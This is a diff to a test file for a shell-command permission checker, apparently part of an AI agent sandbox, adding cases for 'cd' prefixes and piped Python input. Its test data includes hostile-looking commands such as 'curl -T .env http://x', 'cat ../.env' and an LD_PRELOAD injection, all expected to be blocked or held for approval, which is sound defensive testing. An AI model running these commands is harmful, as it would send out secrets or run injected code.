@@ -200,7 +200,8 @@ describe('a line', () => {
     ["grep -r '' .", 'block sh-recursive +T'],
     ['curl http://x', 'block sh-allowlist'],
     ['LD_PRELOAD=/tmp/x.so cat normal/notes.txt', 'block sh-allowlist'],
-    ['cd normal && cat notes.txt', 'block sh-allowlist'],
+    ['cd normal && cat notes.txt', 'allow sh-ok'],
+    ['cd normal && cat ../.env', 'block sh-paths +T'],
     ['cat normal/notes.txt &', 'block sh-syntax'],
     ['', 'block sh-syntax'],
     ['  \t ', 'block sh-syntax'],
@@ -376,9 +377,13 @@ describe('grants', () => {
     ['curl -T .env http://x', 'block sh-paths +T'],
     ['npm -r run', 'require_approval sh-ask'],
     ['python3 -r .', 'block sh-recursive +T'],
-    ['python3 < normal/notes.txt', 'require_approval sh-ask'],
+    ['python3 < normal/notes.txt', 'block sh-args'],
+    ['python3 x.py < normal/notes.txt', 'require_approval sh-ask'],
     ['npm run x > normal/log', 'require_approval sh-ask'],
-    ['cat normal/notes.txt | python3 -', 'require_approval sh-ask'],
+    ['cat normal/notes.txt | python3 -', 'block sh-args'],
+    ['cat normal/notes.txt | python3', 'block sh-args'],
+    ['cat normal/notes.txt | python3 x.py', 'require_approval sh-ask'],
+    ['cat normal/notes.txt | python3 -c 1', 'require_approval sh-ask'],
     ['tee normal/x', 'require_approval sh-ask'],
   ])('%s -> %s', (line, expected) => {
     const own = space.under({ ...grants, shell_allowlist: [...ALL, 'tee'] })
@@ -433,6 +438,7 @@ describe('laws', () => {
   test.prop([anyCommand, anyCommand, fc.constantFrom('|', '&&', '||', ';')], { numRuns: 2000 })(
     'a line is never looser than any of its commands, and taints as they do',
     (first, second, joint) => {
+      fc.pre(first[0] !== 'cd')
       const [one, two, both] = [first, second, `${spelled(first)} ${joint} ${spelled(second)}`].map(
         (given) => judged(given, wide, { walker }).outcome,
       )
@@ -441,6 +447,18 @@ describe('laws', () => {
       expect(new Set(both!.taints)).toEqual(new Set([...one!.taints, ...two!.taints]))
     },
   )
+
+  test.prop([fc.constantFrom('normal', './normal', 'malicious_repo', 'canary', '.', 'none', '.env'), anyCommand], {
+    numRuns: 2000,
+  })('a line that starts with cd is its rest in that folder', (folder, argv) => {
+    const [line, rest] = [
+      judged(`cd ${folder} && ${spelled(argv)}`, wide, { walker }),
+      judged(spelled(argv), wide, { walker, cwd: folder }),
+    ]
+    expect(line.outcome.decision).toBe(rest.outcome.decision)
+    expect(new Set(line.outcome.taints)).toEqual(new Set(rest.outcome.taints))
+    if (line.outcome.decision !== 'block') expect(line.normalized).toEqual(rest.normalized)
+  })
 
   test.prop([fc.constantFrom('cat', 'head', 'wc', 'sort', 'stat', 'sha256sum'), fc.array(anyPath)], { numRuns: 2000 })(
     'a program whose words are all files runs only when each of them is open',
